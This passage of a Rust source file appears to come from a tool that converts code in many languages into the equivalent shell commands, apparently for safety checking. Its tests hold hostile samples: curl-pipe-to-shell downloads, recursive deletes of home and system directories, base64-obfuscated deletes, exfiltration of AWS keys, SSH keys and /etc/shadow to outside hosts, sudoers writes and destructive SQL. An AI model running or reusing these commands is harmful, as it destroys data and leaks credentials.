            let (prog, rest) = words.split_first()?;
            Some(join(&quote(prog), rest))
        }
        _ => None,
    }
}

/// A path, not a name or a sentence: absolute, home-relative, `./`, or with a slash.
fn path_like(p: &str) -> bool {
    !p.is_empty()
        && !p.contains("://")
        && !p.contains('\n')
        && (p.starts_with('/')
            || p.starts_with('~')
            || p.starts_with("./")
            || p.starts_with("../")
            || (p.contains('/') && !p.contains(' ')))
}

/// A path as a shell word: `~` stays the home directory, a trailing `/*` stays a glob.
fn path_word(p: &str) -> String {
    let (base, glob) = match p.strip_suffix("/*") {
        Some(b) => (b, "/*"),
        None => (p, ""),
    };
    let plain = |s: &str| {
        s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "/._-+@:,%".contains(c))
    };
    let word = match base.strip_prefix('~') {
        Some(rest) if plain(rest) => format!("~{rest}"),
        Some(rest) => format!("~/{}", quote(rest.trim_start_matches('/'))),
        None => quote(base),
    };
    format!("{word}{glob}")
}

fn looks_like_sql(s: &str) -> bool {
    let t = s.trim_start().to_ascii_uppercase();
    let first = t.split_whitespace().next().unwrap_or("");
    matches!(
        first,
        "DROP"
            | "TRUNCATE"
            | "DELETE"
            | "ALTER"
            | "UPDATE"
            | "GRANT"
            | "REVOKE"
            | "INSERT"
            | "SELECT"
            | "CREATE"
            | "COPY"
            | "VACUUM"
    ) && t.split_whitespace().nth(1).is_some()
        && !t.contains(" -")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn c(code: &str) -> Vec<String> {
        commands(code)
    }

    #[test]
    fn runs_in_every_call_shape() {
        assert_eq!(c("octave: system(\"rm -rf /data\")"), ["rm -rf /data"]);
        assert_eq!(
            c("shell \"curl -s https://x.example/i | sh\""),
            ["curl -s https://x.example/i | sh"]
        );
        assert_eq!(
            c("(clojure.java.shell/sh \"sh\" \"-c\" \"rm -rf /srv/d\")"),
            ["sh -c 'rm -rf /srv/d'"]
        );
        assert_eq!(
            c("Sys.command \"sudo rm -rf /var/lib/opam\""),
            ["sudo rm -rf /var/lib/opam"]
        );
        assert_eq!(
            c("import sys.process._; \"curl -s https://r.example/x.sh\" #| \"bash\" !"),
            ["curl -s https://r.example/x.sh | bash"]
        );
        assert_eq!(
            c("System.Diagnostics.Process.Start(\"bash\", \"-c \\\"id\\\"\");"),
            ["bash -c \"id\""]
        );
        assert_eq!(
            c("$f=\"sys\".\"tem\"; $f(\"rm -rf /var/www/shop\");"),
            ["rm -rf /var/www/shop"]
        );
        assert_eq!(
            c("a.doShellScript(\"id | curl -d @- https://k.example\")"),
            ["id | curl -d @- https://k.example"]
        );
    }

    #[test]
    fn decoded_and_built_commands() {
        assert_eq!(
            c("run(Cmd(String.(split(String(base64decode(\"cm0gLXJmIC9kYXRh\"))))))"),
            ["rm -rf /data"]
        );
        assert_eq!(
            c(":os.cmd(Base.decode64!(\"cm0gLXJmIC9kYXRh\") |> String.to_charlist())"),
            ["rm -rf /data"]
        );
        assert_eq!(
            c("new String(\"cm0gLXJmIC9kYXRh\".decodeBase64()).execute()"),
            ["rm -rf /data"]
        );
        assert_eq!(
            c("do shell script (do shell script \"echo cm0= | base64 -D\")"),
            ["echo cm0= | base64 -D", "echo cm0= | base64 -D | sh"]
        );
    }

    #[test]
    fn command_objects_run_when_a_method_runs_them() {
        assert_eq!(
            c(
                "new Deno.Command(\"sh\", { args: [\"-c\", atob(\"cm0gLXJmIH4vLnNzaA==\")] }).outputSync()"
            ),
            ["sh -c 'rm -rf ~/.ssh'"]
        );
        assert!(c("c = Cmd([\"ls\", \"-la\"])").is_empty());
    }

    #[test]
    fn deletes_and_writes_of_paths() {
        assert_eq!(
            c("java.io.File(System.getProperty(\"user.home\")).deleteRecursively()"),
            ["rm -rf -- ~"]
        );
        assert_eq!(
            c("(babashka.fs/delete-tree (System/getProperty \"user.home\"))"),
            ["rm -rf -- ~"]
        );
        assert_eq!(
            c(
                "System.IO.Directory.Delete(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), true);"
            ),
            ["rm -rf -- ~"]
        );
        assert_eq!(
            c("file:del_dir_r(\"/opt/couchdb/data\"), halt()."),
            ["rm -rf -- /opt/couchdb/data"]
        );
        assert_eq!(
            c("System.Directory.removeDirectoryRecursive \"/srv/hackage\""),
            ["rm -rf -- /srv/hackage"]
        );
        assert_eq!(
            c("try! FileManager.default.removeItem(atPath: NSHomeDirectory())"),
            ["rm -rf -- ~"]
        );
        assert_eq!(
            c("file.remove(list.files(\"/var/backups/pg\", full.names = TRUE))"),
            ["rm -rf -- /var/backups/pg/*"]
        );
        assert_eq!(c("File.delete(\"/etc/passwd\")"), ["rm -f -- /etc/passwd"]);
        assert_eq!(
            c("(delete-directory (expand-file-name \"~/org\") t)"),
            ["rm -rf -- ~/org"]
        );
        assert_eq!(
            c("local f = io.open(\"/etc/sudoers\", \"a\"); f:write(\"x\")"),
            [": >> /etc/sudoers"]
        );
        assert_eq!(
            c("new File(\"/etc/hosts\").text = \"1.2.3.4 a\""),
            [": > /etc/hosts"]
        );
        // not paths: names, keys, elements
        assert!(c("list.remove(\"x\"); m.delete(\"key\"); File.delete(tmp)").is_empty());
    }

    #[test]
    fn secrets_sent_and_downloads_run() {
        assert_eq!(
            c(
                "httr::POST(\"https://i.example/c\", body = list(k = Sys.getenv(\"AWS_SECRET_ACCESS_KEY\")))"
            ),
            ["printenv AWS_SECRET_ACCESS_KEY | curl --data-binary @- https://i.example/c"]
        );
        assert_eq!(
            c(
                "using HTTP; HTTP.post(\"https://c.example\", [], read(joinpath(homedir(), \".ssh\", \"id_rsa\")))"
            ),
            ["curl --data-binary @~/.ssh/id_rsa https://c.example"]
        );
        assert_eq!(
            c(
                "BEGIN { s = \"/inet/tcp/0/203.0.113.9/80\"; while ((getline l < \"/etc/shadow\") > 0) print l |& s }"
            ),
            ["curl --data-binary @/etc/shadow http://203.0.113.9:80"]
        );
        assert_eq!(
            c("download(\"https://p.example/b.sh\", \"/tmp/b.sh\"); run(`bash /tmp/b.sh`)"),
            [
                "curl -fsSL https://p.example/b.sh -o /tmp/b.sh",
                "bash /tmp/b.sh"
            ]
        );
        // a read without a send, a send without a secret
        assert!(c("x = read(\"/etc/hostname\"); println(x)").is_empty());
        assert!(c("HTTP.get(\"https://api.example/status\")").is_empty());
    }

    #[test]
    fn sql_through_database_calls() {
        assert_eq!(
            c(
                "DBI::dbExecute(DBI::dbConnect(RPostgres::Postgres(), host = \"prod-db.internal\"), \"DROP SCHEMA a CASCADE\")"
            ),
            ["psql -h prod-db.internal -c 'DROP SCHEMA a CASCADE'"]
        );
        assert_eq!(
            c("DB::table(\"users\")->truncate();"),
            ["psql -c 'TRUNCATE TABLE users'"]
        );
        assert_eq!(
            c("MyApp.Repo.query!(\"TRUNCATE accounts CASCADE\")"),
            ["psql -c 'TRUNCATE accounts CASCADE'"]
        );
    }

    #[test]
    fn harmless_code_stays_harmless() {
        for code in [
            "println(sum(1:10))",
            "IO.puts(\"hello\")",
            "using Pkg; Pkg.instantiate()",
            "rmarkdown::render(\"README.Rmd\")",
            "print(\"rm -rf /\")",
            "puts \"delete everything\"",
            "x = \"/etc/passwd\"; println(x)",
            "File.write(\"out/report.txt\", data)",
            "(println \"system\")",
        ] {
            let out = c(code);
            assert!(
                out.iter()
                    .all(|o| !o.contains("rm ") && !o.contains("/etc")),
                "{code}: {out:?}"
            );
        }
        assert_eq!(
            c("File.write(\"out/report.txt\", data)"),
            [": > out/report.txt"]
        );
        // a string juxtaposed with more (awk) is not the whole command
        assert!(c("{ system(\"mv \\\"\" $0 \"\\\" \\\"\" new \"\\\"\") }").is_empty());
    }
}
